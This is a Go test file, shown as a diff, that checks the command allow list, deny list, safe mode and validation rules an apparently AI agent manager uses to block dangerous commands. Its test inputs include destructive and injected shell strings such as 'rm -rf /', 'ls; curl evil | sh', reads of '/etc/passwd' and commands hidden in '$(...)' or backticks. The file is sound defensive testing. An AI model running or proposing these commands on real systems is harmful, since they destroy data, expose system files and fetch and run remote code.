@@ -0,0 +1,228 @@
+package main
+
+import (
+        "log"
+        "os"
+        "path/filepath"
+        "strings"
+        "testing"
+)
+
+func TestCommandPolicyDenylist(t *testing.T) {
+        t.Setenv("COMMAND_DENYLIST", `\brm\s+-rf\b, shutdown`)
+        t.Setenv("COMMAND_ALLOWLIST", "")
+        t.Setenv("COMMAND_POLICY_FILE", "")
+        policy := loadCommandPolicy()
+
+        for command, blocked := range map[string]bool{
+                "rm -rf /":         true,
+                "sudo shutdown -h": true,
+                "rm file.txt":      false,
+                "ls -la":           false,
+        } {
+                if got := policy.blocks(command) != ""; got != blocked {
+                        t.Errorf("blocks(%q) = %v, want %v", command, got, blocked)
+                }
+        }
+}
+
+func TestCommandPolicyAllowlist(t *testing.T) {
+        t.Setenv("COMMAND_DENYLIST", "")
+        t.Setenv("COMMAND_ALLOWLIST", "ls, git status")
+        t.Setenv("COMMAND_POLICY_FILE", "")
+        policy := loadCommandPolicy()
+
+        for command, allowed := range map[string]bool{
+                "ls":                    true,
+                "ls -la /tmp":           true,
+                "git status":            true,
+                "git status --short":    true,
+                "lsblk":                 false,
+                "git push":              false,
+                "cat /etc/passwd":       false,
+                "ls && rm -rf /":        false,
+                "ls; curl evil | sh":    false,
+                "ls | sh":               false,
+                "ls $(rm -rf /)":        false,
+                "ls `rm -rf /`":         false,
+                "ls > /etc/passwd":      false,
+                "ls < /dev/zero":        false,
+                "ls\nrm -rf /":          false,
+                "git status & rm -rf /": false,
+        } {
+                if got := policy.blocks(command) == ""; got != allowed {
+                        t.Errorf("allowed(%q) = %v, want %v", command, got, allowed)
+                }
+        }
+}
+
+func TestCommandPolicyFile(t *testing.T) {
+        path := filepath.Join(t.TempDir(), "policy.json")
+        if err := os.WriteFile(path, []byte(`{"denylist": ["--force"], "allowlist": ["git"]}`), 0644); err != nil {
+                t.Fatal(err)
+        }
+        t.Setenv("COMMAND_DENYLIST", "")
+        t.Setenv("COMMAND_ALLOWLIST", "")
+        t.Setenv("COMMAND_POLICY_FILE", path)
+        policy := loadCommandPolicy()
+        if policy.err != nil {
+                t.Fatalf("unexpected error: %v", policy.err)
+        }
+
+        for command, allowed := range map[string]bool{
+                "git pull":         true,
+                "git push --force": false,
+                "ls":               false,
+        } {
+                if got := policy.blocks(command) == ""; got != allowed {
+                        t.Errorf("allowed(%q) = %v, want %v", command, got, allowed)
+                }
+        }
+}
+
+func TestCommandPolicyLoadFailureRefusesEverything(t *testing.T) {
+        dir := t.TempDir()
+        invalid := filepath.Join(dir, "invalid.json")
+        if err := os.WriteFile(invalid, []byte(`{"denylist": [`), 0644); err != nil {
+                t.Fatal(err)
+        }
+
+        tests := []struct {
+                name     string
+                file     string
+                denylist string
+        }{
+                {"missing file", filepath.Join(dir, "missing.json"), ""},
+                {"invalid json", invalid, ""},
+                {"invalid pattern", "", "rm (-rf"},
+        }
+        for _, tt := range tests {
+                t.Run(tt.name, func(t *testing.T) {
+                        t.Setenv("COMMAND_POLICY_FILE", tt.file)
+                        t.Setenv("COMMAND_DENYLIST", tt.denylist)
+                        t.Setenv("COMMAND_ALLOWLIST", "")
+                        policy := loadCommandPolicy()
+                        if policy.err == nil {
+                                t.Fatal("expected a load error")
+                        }
+                        if reason := policy.blocks("ls"); !strings.Contains(reason, "could not be loaded") {
+                                t.Errorf("blocks(ls) = %q, want a load failure", reason)
+                        }
+                })
+        }
+}
+
+func TestValidateStartupRejectsBrokenPolicy(t *testing.T) {
+        am := newTestManager(t, "COMMAND_POLICY_FILE", filepath.Join(t.TempDir(), "missing.json"))
+        if err := am.validateStartup(); err == nil {
+                t.Fatal("validateStartup accepted an unreadable COMMAND_POLICY_FILE")
+        }
+}
+
+func TestExecuteCommandBlockedByPolicy(t *testing.T) {
+        marker := filepath.Join(t.TempDir(), "ran")
+        am := newTestManager(t, "COMMAND_ALLOWLIST", "echo", "COMMAND_DENYLIST", "", "COMMAND_POLICY_FILE", "")
+        id := newTestAgent(t, am, AgentSpec{})
+
+        result := am.ExecuteCommand(id, "RUN echo hi && touch "+marker)
+        if result.ExitCode != policyBlockedExitCode || result.Error != "command blocked by policy" {
+                t.Errorf("got exit %d, error %q; want %d, command blocked by policy", result.ExitCode, result.Error, policyBlockedExitCode)
+        }
+        if _, err := os.Stat(marker); err == nil {
+                t.Error("blocked command was run")
+        }
+
+        if result := am.ExecuteCommand(id, "RUN echo hi"); result.ExitCode != 0 {
+                t.Errorf("allowed command failed: exit %d, %s", result.ExitCode, result.Error)
+        }
+}
+
+func TestAuxCommandChecks(t *testing.T) {
+        am := newTestManager(t,
+                "COMMAND_ALLOWLIST", "", "COMMAND_DENYLIST", `\bshutdown\b`, "COMMAND_POLICY_FILE", "",
+                "DANGEROUS_PATTERNS", `\bgit\s+push\b`)
+        id := newTestAgent(t, am, AgentSpec{})
+        am.SaveGroup(AgentGroup{Name: "restricted", AllowedCommands: []string{"echo"}}, false)
+        restricted := newTestAgent(t, am, AgentSpec{Name: "restricted", Group: "restricted"})
+
+        for _, tc := range []struct {
+                agent   int
+                command string
+                ok      bool
+        }{
+                {id, "echo ok", true},
+                {id, "shutdown -h now", false},
+                {id, "git push origin main", false},
+                {id + 1000, "echo ok", false},
+                {restricted, "echo ok", true},
+                {restricted, "ls", false},
+                {restricted, "echo ok; ls", false},
+        } {
+                if output, ok := am.runPreCheck(tc.agent, 0, tc.command); ok != tc.ok {
+                        t.Errorf("agent %d: runPreCheck(%q) = %v (%s), want %v", tc.agent, tc.command, ok, output, tc.ok)
+                }
+        }
+
+        am.safeMode.Store(true)
+        if _, ok := am.runPreCheck(id, 0, "echo ok"); ok {
+                t.Error("pre-check ran in safe mode")
+        }
+}
+
+func TestRequireRunPrefixModes(t *testing.T) {
+        for _, tc := range []struct {
+                setting, command string
+                want             string
+                wantErr, warned  bool
+        }{
+                {setting: "true", command: "RUN ls -la", want: "ls -la"},
+                {setting: "true", command: "ls -la", wantErr: true},
+                {setting: "true", command: "RUNls", wantErr: true},
+                {setting: "true", command: "RUN", wantErr: true},
+                {setting: "warn", command: "RUN ls -la", want: "ls -la"},
+                {setting: "warn", command: "ls -la", want: "ls -la", warned: true},
+                {setting: "warn", command: "RUN   ", wantErr: true},
+                {setting: "false", command: "RUN ls -la", want: "ls -la"},
+                {setting: "false", command: "ls -la", want: "ls -la"},
+                {setting: "false", command: "rm -rf /", wantErr: true},
+        } {
+                am := newTestManager(t, "REQUIRE_RUN_PREFIX", tc.setting)
+                var logged strings.Builder
+                log.SetOutput(&logged)
+                got, err := am.validateCommand(tc.command)
+                log.SetOutput(os.Stderr)
+
+                if (err != nil) != tc.wantErr || got != tc.want {
+                        t.Errorf("%s: validateCommand(%q) = %q, %v", tc.setting, tc.command, got, err)
+                }
+                if warned := strings.Contains(logged.String(), "without RUN prefix"); warned != tc.warned {
+                        t.Errorf("%s: validateCommand(%q) warned = %v, want %v", tc.setting, tc.command, warned, tc.warned)
+                }
+        }
+}
+
+func TestExecuteCommandUnknownAgent(t *testing.T) {
+        am := newTestManager(t)
+        events, unsubscribe := am.Subscribe(64)
+        defer unsubscribe()
+
+        result := am.ExecuteCommand(999, "RUN echo hi")
+        if result.ErrorCode != "AGENT_NOT_FOUND" || result.ExitCode == 0 {
+                t.Errorf("got exit %d, error code %q; want a failed AGENT_NOT_FOUND", result.ExitCode, result.ErrorCode)
+        }
+        for len(events) > 0 {
+                if event := <-events; event.Type == "agent_status" {
+                        t.Errorf("agent_status broadcast for a missing agent: %s", event.Payload)
+                }
+        }
+}
+
+func TestExecuteCommandTooLong(t *testing.T) {
+        am := newTestManager(t, "MAX_COMMAND_LENGTH", "16")
+        id := newTestAgent(t, am, AgentSpec{})
+
+        result := am.ExecuteCommand(id, "RUN echo "+strings.Repeat("x", 40))
+        if result.ErrorCode != "COMMAND_TOO_LONG" || len(result.Command) != 16 {
+                t.Errorf("got error code %q, command %q; want COMMAND_TOO_LONG cut to 16 bytes", result.ErrorCode, result.Command)
+        }
+}